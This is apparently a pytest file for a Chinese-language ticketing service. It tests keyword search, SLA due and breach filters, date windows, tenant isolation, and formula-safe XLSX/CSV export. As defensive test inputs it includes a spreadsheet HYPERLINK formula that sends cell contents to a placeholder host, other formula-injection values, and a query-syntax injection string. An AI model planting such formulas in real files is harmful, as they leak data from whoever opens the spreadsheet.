"""Finding tickets again: words (Chinese cut by jieba) in the title, description, comments
and monitoring fields, ranked; windows on creation and resolution; clocks breached or
about to breach (the duty desk's most wanted filter)."""

from __future__ import annotations

import uuid
from datetime import UTC, datetime, timedelta

from opspact.cli.common import dev_token
from opspact.testing.probes import query

TICKETS = "/api/ticketing/tickets"


def person(subject: str, *roles: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {dev_token(['zhuhai'], list(roles), subject)}"}


ENGINEER = person("zh-engineer", "vendor_engineer")
OFFICER = person("zh-officer", "client_admin")


def open_ticket(gateway, reporter: str, title: str, description: str = "") -> dict:
    r = gateway.post(TICKETS, headers=ENGINEER, json={
        "system": "smart-station", "title": title, "description": description, "reporter": reporter})
    assert r.status_code == 201, r.text
    return r.json()


def listed(gateway, headers=ENGINEER, **params) -> dict:
    r = gateway.get(TICKETS, headers=headers, params=params)
    assert r.status_code == 200, r.text
    return r.json()


def numbers(page: dict) -> list[str]:
    return [t["number"] for t in page["items"]]


def test_words_in_a_comment_find_the_ticket_and_rank_the_title_first(gateway):
    reporter = f"search-{uuid.uuid4().hex[:8]}"
    pool = open_ticket(gateway, reporter, "人像比对服务无响应")
    r = gateway.post(f"{TICKETS}/{pool['id']}/comments", headers=ENGINEER,
                     json={"body": "排查发现数据库连接池满，已扩容", "visibility": "public"})
    assert r.status_code == 201, r.text
    titled = open_ticket(gateway, reporter, "数据库连接异常告警", "夜间批处理")
    open_ticket(gateway, reporter, "打印机卡纸")
    found = listed(gateway, q="数据库连接", reporter=reporter)
    assert found["terms"] == ["数据库", "连接"]
    assert numbers(found) == [titled["number"], pool["number"]] and found["total"] == 2
    assert numbers(listed(gateway, q=pool["number"])) == [pool["number"]]  # the number is a word too
    by_date = listed(gateway, q="数据库连接", reporter=reporter, sort="created_at")
    assert numbers(by_date) == [pool["number"], titled["number"]]


def test_internal_words_find_tickets_for_the_desk_only(gateway):
    reporter = f"search-{uuid.uuid4().hex[:8]}"
    ticket = open_ticket(gateway, reporter, "视频云接口超时")
    r = gateway.post(f"{TICKETS}/{ticket['id']}/comments", headers=ENGINEER,
                     json={"body": "怀疑对方限流，暂不告知客户", "visibility": "internal"})
    assert r.status_code == 201
    assert numbers(listed(gateway, q="限流", reporter=reporter)) == [ticket["number"]]
    assert listed(gateway, OFFICER, q="限流", reporter=reporter)["total"] == 0
    # a redacted comment's words are gone from the index
    gateway.post(f"{TICKETS}/{ticket['id']}/comments/{r.json()['id']}/redact",
                 headers=person("zh-manager", "vendor_manager"), json={"reason": "措辞不当"})
    assert listed(gateway, q="限流", reporter=reporter)["total"] == 0


def test_an_edited_title_is_found_by_its_new_words(gateway):
    reporter = f"search-{uuid.uuid4().hex[:8]}"
    ticket = open_ticket(gateway, reporter, "网络中断")
    r = gateway.patch(f"{TICKETS}/{ticket['id']}", headers=ENGINEER, json={"title": "交换机端口故障"})
    assert r.status_code == 200, r.text
    assert listed(gateway, q="交换机", reporter=reporter)["total"] == 1
    assert listed(gateway, q="网络中断", reporter=reporter)["total"] == 0


def _due_in(stack, ticket: dict, minutes: float, state: str = "running") -> None:
    """The ticket's first clock falls due `minutes` from now; its other clocks are met, so
    they fall in no window (the clocks' arithmetic is test_sla_clocks' business)."""
    due = datetime.now(UTC) + timedelta(minutes=minutes)
    ticket_id, placed = uuid.UUID(ticket["id"]), ticket["sla"][0]["clock"]
    query(stack, "UPDATE ticketing.ticket_sla_clocks SET state = 'met', stopped_at = now() "
                 "WHERE ticket_id = $1 AND clock <> $2", ticket_id, placed)
    query(stack, "UPDATE ticketing.ticket_sla_clocks SET due_at = $3, state = $4, "
                 "breached_at = CASE WHEN $3 <= now() THEN $3 END WHERE ticket_id = $1 "
                 "AND clock = $2", ticket_id, placed, due, state)


def test_due_within_is_exactly_the_running_clocks_due_in_the_window(stack, gateway):
    reporter = f"due-{uuid.uuid4().hex[:8]}"
    soon, later, past, paused, never = (open_ticket(gateway, reporter, f"时钟 {n}") for n in range(5))
    _due_in(stack, soon, 10)
    _due_in(stack, later, 50)
    _due_in(stack, past, -5)
    _due_in(stack, paused, 10, state="paused")
    query(stack, "UPDATE ticketing.ticket_sla_clocks SET state = 'met', stopped_at = now() "
                 "WHERE ticket_id = $1", uuid.UUID(never["id"]))
    assert numbers(listed(gateway, due_within="30m", reporter=reporter)) == [soon["number"]]
    assert set(numbers(listed(gateway, due_within="1h", reporter=reporter))) == {
        soon["number"], later["number"]}
    assert numbers(listed(gateway, breached="true", reporter=reporter)) == [past["number"]]
    not_breached = set(numbers(listed(gateway, breached="false", reporter=reporter)))
    assert not_breached == {soon["number"], later["number"], paused["number"], never["number"]}
    due_first = numbers(listed(gateway, reporter=reporter, sort="due"))
    assert due_first[:3] == [past["number"], soon["number"], later["number"]]
    for bad in ("30", "0m", "1w", "30 m", "99999d"):
        r = gateway.get(TICKETS, headers=ENGINEER, params={"due_within": bad})
        assert r.status_code == 422, bad


def test_windows_on_creation_and_resolution(stack, gateway):
    reporter = f"window-{uuid.uuid4().hex[:8]}"
    first, second = open_ticket(gateway, reporter, "一"), open_ticket(gateway, reporter, "二")
    r = gateway.post(f"{TICKETS}/{second['id']}/transitions", headers=ENGINEER,
                     json={"to": "resolved", "note": "已恢复"})
    assert r.status_code == 200, r.text
    resolved = r.json()
    assert resolved["resolved_at"] is not None
    created_at = datetime.fromisoformat(second["created_at"])
    after_first = listed(gateway, reporter=reporter, created_from=second["created_at"])
    assert numbers(after_first) == [second["number"]]
    before = listed(gateway, reporter=reporter, created_to=second["created_at"])
    assert numbers(before) == [first["number"]]  # half-open: [from, to)
    at = datetime.fromisoformat(resolved["resolved_at"])
    window = {"resolved_from": (at - timedelta(seconds=1)).isoformat(),
              "resolved_to": (at + timedelta(seconds=1)).isoformat()}
    assert numbers(listed(gateway, reporter=reporter, **window)) == [second["number"]]
    reopened = gateway.post(f"{TICKETS}/{second['id']}/transitions", headers=ENGINEER,
                            json={"to": "acknowledged", "note": "又坏了"}).json()
    assert reopened["resolved_at"] is None  # not resolved any more
    assert listed(gateway, reporter=reporter, **window)["total"] == 0
    backwards = gateway.get(TICKETS, headers=ENGINEER, params={
        "created_from": created_at.isoformat(), "created_to": created_at.isoformat()})
    assert backwards.status_code == 422 and "created_to" in backwards.text


def test_several_statuses_and_bad_words(gateway):
    reporter = f"status-{uuid.uuid4().hex[:8]}"
    a, b = open_ticket(gateway, reporter, "甲"), open_ticket(gateway, reporter, "乙")
    gateway.post(f"{TICKETS}/{b['id']}/transitions", headers=ENGINEER, json={"to": "acknowledged"})
    both = listed(gateway, reporter=reporter, status=["new", "acknowledged"])
    assert both["total"] == 2
    assert numbers(listed(gateway, reporter=reporter, status="new")) == [a["number"]]
    nothing = gateway.get(TICKETS, headers=ENGINEER, params={"q": "，。！"})
    assert nothing.status_code == 422 and "no searchable words" in nothing.text
    unranked = gateway.get(TICKETS, headers=ENGINEER, params={"sort": "relevance"})
    assert unranked.status_code == 422 and "needs q" in unranked.text
    injection = listed(gateway, q="a' | '' & !(b", reporter=reporter)  # tsquery syntax is only text
    assert injection["total"] == 0


def test_the_export_holds_the_list_in_its_order(gateway):
    import io

    import openpyxl
    reporter = f"export-{uuid.uuid4().hex[:8]}"
    made = [open_ticket(gateway, reporter, f"导出 {n}", "=HYPERLINK(\"http://x/?leak=\"&A1)")
            for n in range(7)]
    gateway.post(f"{TICKETS}/{made[0]['id']}/transitions", headers=ENGINEER,
                 json={"to": "resolved", "note": "已恢复"})
    page = listed(gateway, reporter=reporter, sort="created_at", limit=200)
    r = gateway.get(f"{TICKETS}/export", headers=ENGINEER,
                    params={"reporter": reporter, "sort": "created_at"})
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert "filename*=UTF-8''%E5%B7%A5%E5%8D%95%E5%AF%BC%E5%87%BA" in r.headers["content-disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("编号", "类型", "状态")
    assert [row[0] for row in rows[1:]] == numbers(page) and len(rows) == 8
    assert rows[1][2] == "已解决" and rows[1][13]  # resolved, with its time
    formula_cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "f"]
    assert not formula_cells and rows[1][7].startswith("=HYPERLINK")  # text, never a formula


def test_the_csv_export_in_gb18030_is_formula_safe(gateway):
    import csv
    reporter = f"export-{uuid.uuid4().hex[:8]}"
    open_ticket(gateway, reporter, "@SUM(1+1) 门禁故障", "-2+3")
    r = gateway.get(f"{TICKETS}/export", headers=ENGINEER,
                    params={"reporter": reporter, "format": "csv", "encoding": "gb18030"})
    assert r.status_code == 200 and r.headers["content-type"] == "text/csv; charset=gb18030"
    rows = list(csv.reader(r.content.decode("gb18030").splitlines()))
    assert rows[0][0] == "编号" and len(rows) == 2
    assert rows[1][6] == "'@SUM(1+1) 门禁故障" and rows[1][7] == "'-2+3"
    utf8 = gateway.get(f"{TICKETS}/export", headers=ENGINEER,
                       params={"reporter": reporter, "format": "csv"})
    assert utf8.content.startswith("\ufeff编号".encode())  # Excel's BOM
    bad = gateway.get(f"{TICKETS}/export", headers=ENGINEER, params={"format": "pdf"})
    assert bad.status_code == 422


def test_words_never_cross_tenants(gateway):
    word = f"独有词{uuid.uuid4().hex[:6]}"
    open_ticket(gateway, f"iso-{uuid.uuid4().hex[:6]}", f"{word} 门禁")
    assert listed(gateway, q=word)["total"] == 1
    other = {"Authorization": f"Bearer {dev_token(['xinjiang'], ['vendor_engineer'], 'xj-engineer')}"}
    assert listed(gateway, other, q=word)["total"] == 0
